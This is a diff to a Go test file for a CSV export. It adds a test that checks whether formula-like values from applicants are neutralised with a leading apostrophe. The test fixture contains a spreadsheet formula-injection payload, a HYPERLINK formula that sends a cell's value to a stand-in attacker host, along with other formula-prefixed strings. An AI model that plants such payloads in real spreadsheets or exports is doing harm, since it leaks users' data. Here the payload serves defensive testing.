@@ -8,6 +8,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/shenbao/shenbao"
 )
 
 // TestWalkShowsCleanNames: a file or zip member named with a
@@ -51,5 +53,22 @@ func TestWalkShowsCleanNames(t *testing.T) {
 	}
 	if out := outputs(t, o, fails); strings.ContainsAny(out, "\u202E\u2066\t") {
 		t.Errorf("the outputs keep a control or bidi character:\n%s", out)
+	}
+}
+
+// TestCSVDefusesFormulas: a cluster name, a finding or a file name that an
+// applicant wrote as a formula is written to the bulk CSV as text (issue 22
+// item 9: =HYPERLINK(…) was written as a live formula).
+func TestCSVDefusesFormulas(t *testing.T) {
+	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"点我")`
+	rep := &shenbao.Report{File: "@cmd.docx", Edition: shenbao.EditionMatch{ID: "nat2024"},
+		Fields:   []shenbao.Field{{ID: "name", Key: "name", Value: evil}, {ID: "region_prov", Key: "region_prov", Value: "+重庆市"}},
+		Findings: []shenbao.Finding{{Kind: "missing", Severity: shenbao.SeverityError, Message: "-1+1", Label: "\t=1"}}}
+	o := &Outcome{Results: []Result{{Path: rep.File, Report: rep}}}
+	out := outputs(t, o, []Failure{{Path: "=1+1.pdf", Code: shenbao.EINVALID, Err: "坏"}})
+	for _, want := range []string{"'" + evil, "'+重庆市", "'@cmd.docx", "'-1+1", "'=1+1.pdf"} {
+		if !strings.Contains(out, strings.ReplaceAll(want, `"`, `""`)) {
+			t.Errorf("the CSV lacks %q:\n%s", want, out)
+		}
 	}
 }
